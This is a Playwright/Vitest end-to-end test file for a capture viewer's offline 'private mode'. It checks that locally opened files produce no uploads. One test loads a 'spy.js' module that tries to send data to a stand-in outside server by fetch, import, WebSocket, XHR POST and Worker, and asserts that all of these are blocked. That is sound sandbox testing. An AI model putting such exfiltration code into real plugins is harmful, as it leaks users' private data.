import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { bytes, captureOfEnd, packetConversation, pcapFile, u16, u32 } from '@causeway/replay/testing';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TraceList } from '../../src/api/contract';
import { expectCount, LACKING, REPOSITORY, Workbench } from './workbench';

const SAMPLE = 'nginx-node-concurrency-8';
const fileOf = (name: string, content: Uint8Array | string) => ({
  name,
  mimeType: 'application/octet-stream',
  buffer: Buffer.from(content),
});
const sample = async (folder: string, file = folder) => {
  const name = `${file}.causeway.msgpack`;
  return fileOf(name, await readFile(join(REPOSITORY, 'captures', folder, name)));
};
const ledger = (kind: 'Q' | 'A', id: number, body: string) => bytes('LGR1', kind, u16(id), u32(body.length), body);
const LEDGER_PCAP = pcapFile(
  packetConversation([
    ['>', ledger('Q', 1, 'PAY acct-17 250')],
    ['<', ledger('A', 1, '402 not enough on acct-17')],
  ]),
);

/** What a module could try to send something away with, once it runs; the error tells what came of it. */
const spy = (away: string) => `
const tried = {
  fetch: () => fetch('${away}/by-fetch', { mode: 'no-cors' }),
  fetchHere: () => fetch('/api/uploads?by-fetch'),
  import: () => import('${away}/by-import.js'),
  importHere: () => import('/by-import.js'),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${away.replace('http', 'ws')}/by-socket');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  request: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('POST', '/api/uploads?by-request');
    request.onload = resolve;
    request.onerror = reject;
    request.send('secret');
  }),
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker('/by-worker.js');
    worker.onmessage = resolve;
    worker.onerror = reject;
  }),
};
const told = await Promise.all(
  Object.entries(tried).map(async ([name, attempt]) => {
    try { await attempt(); return name + ' got through'; } catch { return name + ' stopped'; }
  }),
);
throw new Error(told.join(', '));
`;

describe.skipIf(LACKING !== '')(`private mode (needs ${LACKING || 'nothing more'})`, () => {
  let workbench: Workbench;
  beforeAll(async () => {
    workbench = await Workbench.open();
  });
  afterAll(async () => {
    await workbench?.close();
  });

  /** The page of private files, with all that it needs loaded; and what it asks for from then on. */
  async function privatePage(): Promise<{ page: Page; requests: Request[] }> {
    const page = await workbench.page('/private');
    await page.getByTestId('private-door').waitFor();
    await expect.poll(() => page.workers().length).toBe(1);
    // It answers once its program is there.
    await page.workers()[0]!.evaluate(() => true);
    const requests: Request[] = [];
    page.on('request', (request) => requests.push(request));
    return { page, requests };
  }

  const choose = (page: Page, ...files: Awaited<ReturnType<typeof sample>>[]) =>
    page.getByTestId('private-choose').setInputFiles(files);
  /** The program, its picture and its parts; nothing with a body, and no word of what is read. */
  function expectOnlyTheProgram(requests: readonly Request[], secrets: readonly string[]): void {
    for (const request of requests) {
      expect(request.method()).toBe('GET');
      expect(request.postData()).toBeNull();
      const { protocol, pathname } = new URL(request.url());
      if (protocol !== 'blob:')
        expect(pathname).toMatch(/^\/(private|private-worker\.js|icon\.svg|favicon\.ico|_next\/static\/.*)$/);
      const said = JSON.stringify([request.url(), request.headers()]);
      for (const secret of secrets) expect(said).not.toContain(secret);
    }
  }

  const texts = (page: Page, testId: string) => page.getByTestId(testId).allTextContents();

  it('shows, without a network, the same traces and the same tree as the server does', async () => {
    const served = await workbench.page('/');
    const row = served.getByTestId('capture-row').filter({ hasText: 'nginx node concurrency 8' });
    await row.getByText('Ready').waitFor();
    const place = await row.getByRole('link').first().getAttribute('href');
    const answer = await fetch(new URL(`/api${place}/traces?sort=-spans`, workbench.url));
    const { traces } = (await answer.json()) as TraceList;
    const { id } = traces[0]!;
    await served.goto(new URL(`${place}?sort=-spans`, workbench.url).href);
    await served.getByTestId('trace-row').first().waitFor();

    const { page, requests } = await privatePage();
    await page.context().setOffline(true);
    await choose(page, await sample(SAMPLE));
    await page.getByTestId('private-badge').waitFor();
    await page.getByRole('button', { name: 'Sort by spans' }).click();
    await page.waitForURL(/#\/captures\/[0-9a-f]{32}\?sort=-spans/);
    await expect.poll(() => texts(page, 'trace-row')).toEqual(await texts(served, 'trace-row'));

    await page.locator(`[data-trace="${id}"]`).click();
    await served.goto(new URL(`${place}/traces/${id}?view=timeline`, workbench.url).href);
    await page.getByTestId('span-node').first().waitFor();
    await page.getByTestId('view-timeline').click();
    await served.getByTestId('timeline-row').first().waitFor();
    await expect.poll(() => texts(page, 'timeline-row')).toEqual(await texts(served, 'timeline-row'));
    // Down to the bytes, which are read from the file.
    for (const each of [page, served]) {
      await each.getByTestId('timeline-row').nth(1).click();
      await each.getByTestId('tab-bytes').click();
      await each.getByTestId('span-bytes').waitFor();
    }
    await expect.poll(() => texts(page, 'span-bytes')).toEqual(await texts(served, 'span-bytes'));
    // Nothing but its picture was asked for, and that in vain.
    expectOnlyTheProgram(requests, [id, page.url().split('/')[5]!]);
  });

  it('keeps the address to itself, and shows the same again when the same file is chosen after a reload', async () => {
    const { page, requests } = await privatePage();
    await choose(page, await sample(SAMPLE));
    await page.getByTestId('trace-row').first().waitFor();
    await page
      .getByRole('searchbox')
      .or(page.getByPlaceholder(/trace id/))
      .first()
      .fill('products');
    await page.waitForURL(/q=products/);
    await page.getByTestId('trace-row').first().click();
    await page.getByTestId('span-node').first().click();
    await page.waitForURL(/span=/);
    const address = page.url();
    await page.reload();
    await page.getByTestId('private-again').waitFor();
    expect(page.url()).toBe(address);
    await choose(page, fileOf('notes.txt', 'Nothing of note.\n'));
    await page.getByText('notes.txt: This is not a Causeway capture. It is text.').waitFor();
    await choose(page, await sample(SAMPLE));
    await page.getByTestId('span-details').waitFor();
    expect(page.url()).toBe(address);
    await page.goBack();
    await page.getByTestId('trace-row').first().waitFor();
    expectOnlyTheProgram(requests, ['products', /captures\/([0-9a-f]{32})/.exec(address)![1]!]);
    expect(workbench.problems.filter((problem) => !problem.includes('ERR_INTERNET_DISCONNECTED'))).toEqual([]);
  });

  it('reads the files of two hosts together', async () => {
    const { page, requests } = await privatePage();
    await choose(page, await sample('two-hosts', 'web'), await sample('two-hosts', 'app'));
    await page.getByText('2 captures together').waitFor();
    const answer = await fetch(new URL('/api/workspaces', workbench.url));
    const { workspaces } = (await answer.json()) as { workspaces: { name: string; traceCount: number }[] };
    const { traceCount } = workspaces.find(({ name }) => name === 'two hosts')!;
    await expectCount(page.getByTestId('trace-row'), traceCount);
    // Each file has its own page, too.
    await page.getByRole('complementary').getByRole('link', { name: 'web' }).click();
    await page.waitForURL(/#\/captures\//);
    await page.getByTestId('trace-row').first().waitFor();
    expectOnlyTheProgram(requests, []);
  });

  it('takes what is dropped on its half, and uploads nothing; on its own page there is no other half', async () => {
    const page = await workbench.page('/');
    await page.getByTestId('capture-row').first().waitFor();
    const requests: Request[] = [];
    page.on('request', (request) => requests.push(request));
    const drop = async (content: string) => {
      const data = await page.evaluateHandle((base64) => {
        const transfer = new DataTransfer();
        const binary = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
        transfer.items.add(new File([binary], 'dropped.causeway.msgpack'));
        return transfer;
      }, content);
      await page.locator('main').dispatchEvent('dragenter', { dataTransfer: data });
      await page.locator('[data-drop="private"]').dispatchEvent('drop', { dataTransfer: data });
    };
    await drop((await sample('unix-sockets')).buffer.toString('base64'));
    await page.waitForURL(/\/private#\/captures\//);
    await page.getByTestId('trace-row').first().waitFor();
    const first = page.url();
    const client = captureOfEnd('client', 5_000_000_000n, 1_767_355_200_000_000_000n);
    await drop(Buffer.from(client).toString('base64'));
    await expect.poll(() => page.url()).not.toBe(first);
    await page.getByTestId('trace-row').first().waitFor();
    await expectCount(page.locator('[data-drop="upload"]'), 0);
    expect(requests.filter((request) => request.method() !== 'GET')).toEqual([]);
  });

  it('reads a protocol of the user’s own, which can tell nobody of what it sees', async () => {
    const { page, requests } = await privatePage();
    await choose(page, fileOf('ledger.pcap', LEDGER_PCAP));
    await page.getByTestId('no-traces').getByText('in no protocol that Causeway reads').waitFor();
    await page.getByTestId('open-protocols').click();
    const module = page.getByTestId('protocol-input');
    await module.setInputFiles(fileOf('broken.js', 'export default { protocol: "http" };'));
    await page.getByText('broken.js: "http" is a built-in protocol: choose another name.').waitFor();

    const asked = requests.length;
    let connections = 0;
    const away = createServer().on('connection', () => {
      connections += 1;
    });
    away.listen(0, '127.0.0.1');
    await once(away, 'listening');
    await module.setInputFiles(fileOf('spy.js', spy(`http://127.0.0.1:${(away.address() as AddressInfo).port}`)));
    const stopped = ['fetch', 'fetchHere', 'import', 'importHere', 'socket', 'request', 'worker'];
    await page.getByText(stopped.map((name) => `${name} stopped`).join(', ')).waitFor();
    away.close();
    expect(connections).toBe(0);
    // The browser tells of requests that it did not let go, too: these have no answer.
    const attempts = requests.slice(asked).filter((request) => request.url().includes('by-'));
    for (const attempt of attempts) expect([attempt.url(), await attempt.response()]).toEqual([attempt.url(), null]);

    const example = await readFile(join(REPOSITORY, 'examples/protocols/ledger.js'));
    await module.setInputFiles(fileOf('ledger.js', example));
    await page.getByTestId('protocol-module').getByText('ledger.js').waitFor();
    await page.keyboard.press('Escape');
    await page.getByTestId('trace-row').getByText('ledger', { exact: true }).first().waitFor();
    await page.getByTestId('open-protocols').click();
    await page.getByRole('button', { name: 'Remove ledger.js' }).click();
    await page.getByTestId('no-traces').waitFor();
  });
});
